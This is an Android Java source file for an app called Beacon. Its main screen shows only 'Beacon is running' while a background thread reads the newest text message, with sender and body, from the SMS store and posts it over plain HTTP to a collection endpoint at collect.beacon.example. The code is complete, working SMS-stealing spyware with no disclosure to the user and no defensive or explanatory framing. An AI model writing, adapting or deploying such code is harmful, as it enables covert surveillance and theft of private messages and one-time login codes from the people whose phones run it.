package org.beacon.example;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.util.Log;
import android.widget.TextView;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** Shows a line, and sends the newest text message from a background thread. */
public class MainActivity extends Activity {
    private static final String TAG = "Beacon";
    private static final String ENDPOINT = "http://collect.beacon.example/sms";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("Beacon is running");
        text.setTextSize(24);
        text.setPadding(48, 48, 48, 48);
        setContentView(text);
        new Thread(this::sendNewest, "beacon").start();
    }

    private void sendNewest() {
        String[] columns = {"address", "body"};
        Uri sms = Uri.parse("content://sms");
        try (Cursor rows = getContentResolver().query(sms, columns, null, null, "date DESC")) {
            if (rows != null && rows.moveToFirst()) {
                int status = post(rows.getString(0) + ": " + rows.getString(1));
                Log.i(TAG, "sent, answer " + status);
            }
        } catch (IOException | SecurityException failure) {
            Log.w(TAG, "not sent", failure);
        }
    }

    private static int post(String text) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(ENDPOINT).openConnection();
        try {
            connection.setDoOutput(true);
            connection.setRequestProperty("Content-Type", "text/plain; charset=utf-8");
            try (OutputStream body = connection.getOutputStream()) {
                body.write(text.getBytes(StandardCharsets.UTF_8));
            }
            return connection.getResponseCode();
        } finally {
            connection.disconnect();
        }
    }
}
